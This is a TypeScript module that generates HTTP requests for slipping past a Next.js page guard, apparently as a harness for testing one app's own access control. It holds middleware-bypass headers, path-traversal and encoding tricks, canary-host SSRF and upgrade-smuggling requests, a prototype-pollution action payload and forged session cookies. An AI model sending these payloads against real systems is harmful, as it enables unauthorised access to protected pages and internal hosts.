/** Ways to ask for a page that its guard might not see. `page` is the path of a guarded page, like `/dashboard`. */
export type PageVariant = {
  what: string;
  target: string;
  method?: string;
  headers?: string[];
  body?: string;
};

/** @param canary the address of a server that nobody but an attacker asks for, like `127.0.0.1:8081`. */
export function pageVariants(page: string, desk: string, canary: string): PageVariant[] {
  const name = page.slice(1);
  const first = name.charCodeAt(0).toString(16);
  const encoded = `/%${first}${name.slice(1)}`;
  const middleware = 'middleware:middleware:middleware:middleware:middleware';
  const flight = ['RSC: 1', 'Next-Router-State-Tree: %5B%22%22%5D'];
  const upgrade = ['Connection: Upgrade', 'Upgrade: websocket', 'Sec-WebSocket-Version: 13'];
  return [
    { what: 'as it is', target: page },
    { what: 'x-middleware-subrequest', target: page, headers: [`x-middleware-subrequest: ${middleware}`] },
    {
      what: 'x-middleware-subrequest of src',
      target: page,
      headers: [
        'x-middleware-subrequest: src/middleware:src/middleware:src/middleware:src/middleware:src/middleware',
      ],
    },
    { what: 'x-middleware-prefetch', target: page, headers: ['x-middleware-prefetch: 1'] },
    {
      what: 'x-middleware-rewrite',
      target: '/chat',
      headers: [`x-middleware-rewrite: http://${canary}${page}`],
    },
    { what: 'x-middleware-rewrite to the page', target: '/chat', headers: [`x-middleware-rewrite: ${page}`] },
    { what: 'x-middleware-next', target: page, headers: ['x-middleware-next: 1'] },
    { what: 'x-invoke-path', target: '/chat', headers: [`x-invoke-path: ${page}`, 'x-invoke-status: 200'] },
    { what: 'x-matched-path', target: '/chat', headers: [`x-matched-path: ${page}`] },
    { what: 'x-now-route-matches', target: '/chat', headers: [`x-now-route-matches: 1=${page}`] },
    { what: 'x-nextjs-data', target: page, headers: ['x-nextjs-data: 1'] },
    { what: 'x-original-url', target: '/', headers: [`X-Original-URL: ${page}`, `X-Rewrite-URL: ${page}`] },
    { what: 'x-forwarded-host', target: page, headers: [`X-Forwarded-Host: ${canary}`] },
    { what: 'x-forwarded-prefix', target: '/chat', headers: [`X-Forwarded-Prefix: ${page}`] },
    { what: 'flight header', target: page, headers: flight },
    { what: 'prefetch header', target: page, headers: ['RSC: 1', 'Next-Router-Prefetch: 1'] },
    { what: 'segment prefetch', target: page, headers: ['RSC: 1', 'Next-Router-Segment-Prefetch: /_tree'] },
    { what: 'purpose: prefetch', target: page, headers: ['Purpose: prefetch', 'Sec-Purpose: prefetch'] },
    { what: '_rsc parameter', target: `${page}?_rsc=abc`, headers: ['RSC: 1'] },
    { what: '.rsc', target: `${page}.rsc` },
    { what: '.segments', target: `${page}.segments/_tree.segment.rsc` },
    { what: '.prefetch.rsc', target: `${page}.prefetch.rsc` },
    { what: '.html', target: `${page}.html` },
    { what: '.txt', target: `${page}.txt` },
    { what: '.json of _next/data', target: `/_next/data/build/${name}.json` },
    { what: '_next/data with a locale', target: `/_next/data/build/en/${name}.json` },
    { what: '_next/static to the server', target: `/_next/static/../server/app/${name}.html` },
    { what: '_next/static, encoded', target: `/_next/static/%2e%2e/server/app/${name}.html` },
    { what: '_next/static, encoded twice', target: `/_next/static/%252e%252e/server/app/${name}.html` },
    { what: '_next/static, backslash', target: `/_next/static/..\\server\\app\\${name}.html` },
    { what: '_next/image of the page', target: `/_next/image?url=${encodeURIComponent(page)}&w=64&q=75` },
    {
      what: '_next/image of the canary',
      target: `/_next/image?url=http%3A%2F%2F${canary}%2Fa.png&w=64&q=75`,
    },
    { what: 'encoded', target: encoded },
    { what: 'encoded twice', target: `/%25${first}${name.slice(1)}` },
    { what: 'encoded slash', target: `/%2f${name}` },
    { what: 'upper case', target: page.toUpperCase() },
    { what: 'locale', target: `/en${page}` },
    { what: 'two slashes', target: `/${page}` },
    { what: 'slash at the end', target: `${page}/` },
    { what: 'dot', target: `/.${page}` },
    { what: 'dots', target: `/chat/..${page}` },
    { what: 'encoded dots', target: `/chat/%2e%2e${page}` },
    { what: 'semicolon', target: `${page};a=b` },
    { what: 'semicolon before', target: `/;${page}` },
    { what: 'NUL', target: `${page}%00` },
    { what: 'line break', target: `${page}%0d%0ax` },
    { what: 'backslash', target: `\\${name}` },
    { what: 'fragment', target: `${page}#x` },
    {
      what: 'parameter of the router',
      target: `/chat?__nextDefaultLocale=${page}&nxtPpage=${page}&__nextLocale=en`,
    },
    { what: 'absolute form', target: `http://${desk}${page}` },
    { what: 'absolute form, canary', target: `http://${canary}${page}` },
    { what: 'absolute form, upgrade', target: `http://${canary}${page}`, headers: upgrade },
    { what: 'absolute form, upgrade, websocket scheme', target: `ws://${canary}/`, headers: upgrade },
    { what: 'upgrade', target: page, headers: upgrade },
    { what: 'upgrade to the canary by two slashes', target: `//${canary}/`, headers: upgrade },
    { what: 'upgrade of hot reload', target: `/_next/hmr?page=${page}`, headers: upgrade },
    {
      what: 'upgrade to h2c',
      target: page,
      headers: [
        'Connection: Upgrade, HTTP2-Settings',
        'Upgrade: h2c',
        'HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA',
      ],
    },
    { what: 'HEAD', target: page, method: 'HEAD' },
    { what: 'OPTIONS', target: page, method: 'OPTIONS' },
    { what: 'POST', target: page, method: 'POST', headers: ['Content-Type: text/plain'], body: '[]' },
    { what: 'PROPFIND', target: page, method: 'PROPFIND' },
    { what: 'CONNECT', target: canary, method: 'CONNECT' },
    {
      what: 'method override',
      target: page,
      method: 'POST',
      headers: ['X-HTTP-Method-Override: GET'],
      body: '',
    },
    {
      what: 'Next-Action',
      target: page,
      method: 'POST',
      headers: ['Next-Action: 00'.padEnd(55, '0'), 'Content-Type: text/plain;charset=UTF-8'],
      body: '[]',
    },
    {
      what: 'Next-Action with a foreign Host',
      target: '/chat',
      method: 'POST',
      headers: [`X-Forwarded-Host: ${canary}`, `Origin: http://${canary}`, 'Next-Action: 00'.padEnd(55, '0')],
      body: '[]',
    },
    {
      what: 'flight payload',
      target: page,
      method: 'POST',
      headers: ['Next-Action: x', 'Content-Type: multipart/form-data; boundary=b'],
      body: '--b\r\nContent-Disposition: form-data; name="0"\r\n\r\n{"then":"$1:__proto__:then","status":"resolved_model"}\r\n--b--\r\n',
    },
    {
      what: 'draft mode',
      target: page,
      headers: ['Cookie: __prerender_bypass=1; __next_preview_data=1', 'x-prerender-revalidate: 1'],
    },
    {
      what: 'a cookie that was made up',
      target: page,
      headers: ['Cookie: __Host-switchboard.session_token=admin.admin'],
    },
    { what: 'a token', target: page, headers: ['Authorization: Bearer sb_made-up'] },
  ];
}

/** The bytes of a variant's request. */
export function requestText({ method, target, headers = [], body }: PageVariant, host: string): string {
  const asked = method ?? (body === undefined ? 'GET' : 'POST');
  const lines = [`${asked} ${target} HTTP/1.1`, `Host: ${host}`, ...headers];
  if (!headers.some((header) => header.startsWith('Connection:'))) lines.push('Connection: close');
  if (body !== undefined) lines.push(`Content-Length: ${Buffer.byteLength(body)}`);
  return `${lines.join('\r\n')}\r\n\r\n${body ?? ''}`;
}
